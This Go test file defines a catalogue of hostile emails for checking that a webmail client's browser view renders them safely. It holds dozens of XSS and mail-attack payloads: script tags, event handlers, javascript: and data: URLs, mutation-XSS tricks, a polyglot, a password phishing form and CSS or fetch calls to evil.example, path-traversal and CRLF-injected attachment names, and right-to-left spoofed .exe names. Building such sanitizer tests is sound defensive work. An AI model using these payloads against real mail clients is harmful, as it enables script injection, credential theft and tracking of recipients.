//go:build browser

package browsertest

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"
)

// hostile is a mail that attacks who looks at it. Its name says how.
type hostile struct {
	name    string
	subject string // as in the header field, "" for the name
	html    string
	files   []hostileFile
	raw     []byte // the whole message instead, with %s in place of its Message-ID
}

// hostileFile is a file of such a mail.
type hostileFile struct {
	disposition string // with the name, as in the header field
	kind        string
	octets      string
}

// crime is a script. If it runs, the test notices each of its effects.
const crime = `console.log('crime');try{top.document.title='crime'}catch(e){};fetch('http://evil.example/fetched');` +
	`new Image().src='http://evil.example/image'`

// data returns an address that has its content in itself.
func data(kind, content string) string {
	return "data:" + kind + ";base64," + base64.StdEncoding.EncodeToString([]byte(content))
}

// hostileMails returns the attacks.
func hostileMails() []hostile {
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="` + crime + `"><script>` + crime + `</script></svg>`
	deep := strings.Repeat("<div><table><tr><td><b>", 20_000) + "deep"
	many := hostile{name: "five thousand files"}
	for n := range 5000 {
		many.files = append(many.files, hostileFile{fmt.Sprintf(`attachment; filename="%d.txt"`, n), "text/plain", "x"})
	}
	return []hostile{
		{name: "script elements", html: `<script>` + crime + `</script><script src="http://evil.example/x.js"></script><scr<script>ipt>` + crime + `</script>`},
		{name: "event handlers", html: `<img src=x onerror="` + crime + `"><body onload="` + crime + `"><div onmouseover="` + crime + `" onclick="` + crime +
			`" style="width:100%;height:500px">click here</div><details open ontoggle="` + crime + `"><input autofocus onfocus="` + crime + `">`},
		{name: "javascript addresses", html: `<a href="javascript:` + crime + `">one</a> <a href="JaVa&#9;Script:` + crime + `">two</a> ` +
			`<a href=" &#14;javascript:` + crime + `">three</a><form action="javascript:` + crime + `"><button>four</button></form>`},
		{name: "svg", html: svg + `<svg><a xlink:href="javascript:` + crime + `"><text x="9" y="20">here</text></a><use href="` + data("image/svg+xml", svg) +
			`#x"/><animate attributeName="href" values="javascript:` + crime + `"/><foreignObject><iframe src="http://evil.example/"></iframe></foreignObject></svg>`},
		{name: "mathml", html: `<math><maction actiontype="statusline" xlink:href="javascript:` + crime + `">here</maction><mtext><img src=x onerror="` +
			crime + `"></mtext></math>`},
		{name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=http://evil.example/refreshed"><meta http-equiv="refresh" content="0;url=javascript:` +
			crime + `"><meta http-equiv="set-cookie" content="a=b">`},
		{name: "base", html: `<base href="http://evil.example/" target="_top"><a href="relative">here</a><img src="relative.png">`},
		{name: "forms", html: `<form action="http://evil.example/form" method="post" target="_top"><input name="token" type="password"><button>Log in again</button>` +
			`</form><button form="f" formaction="javascript:` + crime + `">x</button><isindex action="http://evil.example/">`},
		{name: "css imports", html: `<style>@import "http://evil.example/i.css";@import url(http://evil.example/j.css);</style>` +
			`<link rel="stylesheet" href="http://evil.example/l.css"><link rel="preload" as="image" href="http://evil.example/p"><link rel="dns-prefetch" href="//evil.example">`},
		{name: "css urls", html: `<style>body{background:url(http://evil.example/b)}p::before{content:url("http://evil.example/c")}</style>` +
			`<p style="background-image:url(http://evil.example/s);list-style:url(http://evil.example/t);cursor:url(http://evil.example/u),auto">text</p>` +
			`<table background="http://evil.example/t"><tr><td background="http://evil.example/d">x</td></tr></table>`},
		{name: "css expressions", html: `<p style="width:expression(` + crime + `);behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#x)">x</p>`},
		{name: "srcset and other sources", html: `<img srcset="http://evil.example/1x 1x, http://evil.example/2x 2x"><picture><source srcset="http://evil.example/p"><img></picture>` +
			`<video poster="http://evil.example/v" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a" autoplay></audio>` +
			`<track src="http://evil.example/k"><input type="image" src="http://evil.example/i"><img src="http://evil.example/pixel" width="1" height="1">`},
		{name: "remote fonts", html: `<style>@font-face{font-family:e;src:url(http://evil.example/f.woff)}*{font-family:e}</style><font face="e">text</font>`},
		{name: "frames and objects", html: `<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>` + crime + `</script>"></iframe>` +
			`<object data="http://evil.example/o"></object><embed src="http://evil.example/e"><applet code="x" archive="http://evil.example/x.jar"></applet>` +
			`<frameset><frame src="http://evil.example/fs"></frameset><portal src="http://evil.example/p"></portal>`},
		{name: "targets and openers", html: `<a href="http://evil.example/top" target="_top" style="display:block;height:500px">top</a>` +
			`<a href="http://evil.example/blank" target="_blank" rel="opener">blank</a><a href="/logout" target="_parent" ping="http://evil.example/ping">out</a>`},
		{name: "data addresses", html: `<a href="` + data("text/html", "<script>"+crime+"</script>") + `">here</a><img src="` + data("image/svg+xml", svg) + `">` +
			`<iframe src="` + data("text/html", "<script>"+crime+"</script>") + `"></iframe><object data="` + data("image/svg+xml", svg) + `"></object>`},
		{name: "direction overrides", subject: "=?utf-8?q?Invoice_=E2=80=AEfdp.exe_=E2=81=A7_=D7=A9=D7=9C=D7=95=D7=9D?=", html: "<bdo dir=rtl>reversed</bdo> \u202ereversed\u202c \u2067isolated",
			files: []hostileFile{{`attachment; filename*=utf-8''report%E2%80%AEfdp.exe`, "application/pdf", "MZ"}}},
		{name: "a subject of 10 MB", subject: "long " + strings.Repeat("endless\r\n ", 1<<20)},
		many,
		{name: "file names with paths", html: "see the files", files: []hostileFile{
			{`attachment; filename="../../../../etc/cron.d/evil"`, "text/plain", "a"}, {`attachment; filename="C:\\Windows\\evil.exe"`, "text/plain", "b"},
			{`attachment; filename="..\\..\\evil.bat"`, "text/plain", "c"}, {`attachment; filename="/etc/passwd"`, "text/plain", "d"},
			{`attachment; filename=".bashrc"`, "text/plain", "e"}, {`attachment; filename="CON"`, "text/plain", "f"},
		}},
		{name: "file names with line ends and quotes", html: "see the files", files: []hostileFile{
			{`attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20evil=1%0D%0A%0D%0A%3Cscript%3E`, "text/plain", "a"},
			{`attachment; filename*=utf-8''b%22%3B%20filename%3D%22evil.html`, "text/plain", "b"},
			{`attachment; filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dconsole.log(1)%3E`, "text/plain", "c"}, {`attachment; filename*=utf-8''a%00b`, "text/plain", "d"},
		}},
		{name: "files of HTML", html: "see the file", files: []hostileFile{{`inline; filename="page.html"`, "text/html", "<script>" + crime + "</script>"}}},
		{name: "files of SVG", html: `<img src="cid:svg@evil.example">`, files: []hostileFile{
			{"inline; filename=\"picture.svg\"\r\nContent-ID: <svg@evil.example>", "image/svg+xml", svg}, {`inline; filename="x.xml"`, "application/xhtml+xml", svg},
		}},
		{name: "template syntax", subject: `{{.}} {{printf "%s" .}} ${7*7} <%= 7*7 %>`, html: `{{.Sender}} {{template "layout" .}} {{csrf}} {% raw %} #{7*7}`,
			files: []hostileFile{{`attachment; filename="{{.Name}}.txt"`, "text/plain", "{{.}}"}}},
		{name: "NUL", subject: "a=?utf-8?q?=00?=b\x00c", html: "<scr\x00ipt>" + crime + "</scr\x00ipt><img src=\x00x on\x00error=" + crime + ">"},
		{name: "mutations of noscript", html: `<noscript><p title="</noscript><img src=x onerror='` + crime + `'>"></p></noscript>`},
		{name: "mutations of style and title", html: `<svg></p><style><a id="</style><img src=x onerror='` + crime + `'>"></svg><title><a title="</title><img src=x onerror='` +
			crime + `'>"></title><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='` + crime + `'&gt;"></table></mtext></math>`},
		{name: "mutations of comments and templates", html: `<!--><img src=x onerror="` + crime + `">--><template><script>` + crime + `</script></template>` +
			`<textarea><p title="</textarea><img src=x onerror='` + crime + `'>"></p></textarea><xmp><p title="</xmp><img src=x onerror='` + crime + `'>">`},
		{name: "huge nesting", html: deep},
		{name: "overlays", html: `<style>*{position:fixed!important;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background:red}</style>` +
			`<div style="position:fixed;inset:0;z-index:2147483647;background:red">The session has ended: log in again.</div>` +
			`<div style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;background:red"></div>`},
		{name: "a polyglot", html: "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + crime + " )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + crime + "//>\\x3e"},
		{name: "markup in each header field", raw: []byte("From: \"<script>" + crime + "</script>\" <\"<img src=x onerror=console.log(1)>\"@evil.example>\r\n" +
			"To: \"</bdi><script>console.log(1)</script>\" <x@acme.example>\r\nSubject: </title></bdi><script>console.log(1)</script><img src=x onerror=console.log(2)>\r\n" +
			"Message-ID: <%s>\r\nIn-Reply-To: <\"><script>console.log(1)</script>@evil.example>\r\nDate: <script>console.log(1)</script>\r\n" +
			"Content-Type: text/html; charset=\"<script>\"; boundary='\"><script>'\r\n\r\n<b>bold</b>\r\n")},
		{name: "heaps of marks", subject: "=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte("Z"+strings.Repeat("\u0335\u0338\u030d", 60)+"algo")) + "?=",
			html: "Z" + strings.Repeat("\u0489\u030d", 4000)},
	}
}

// message returns the octets of the mail with a Message-ID.
func (h hostile) message(id string) []byte {
	if h.raw != nil {
		return bytes.Replace(h.raw, []byte("%s"), []byte(id), 1)
	}
	subject := h.subject
	if subject == "" {
		subject = h.name
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "From: Mallory <mallory@evil.example>\r\nSubject: %s\r\nMessage-ID: <%s>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=-=b\r\n\r\n",
		subject, id)
	fmt.Fprintf(&b, "---=b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<html><body>%s</body></html>\r\n",
		strings.ReplaceAll(h.html, "<td>", "<td>\r\n"))
	for _, f := range h.files {
		fmt.Fprintf(&b, "---=b\r\nContent-Type: %s\r\nContent-Disposition: %s\r\n\r\n%s\r\n", f.kind, f.disposition, f.octets)
	}
	b.WriteString("---=b--\r\n")
	return b.Bytes()
}
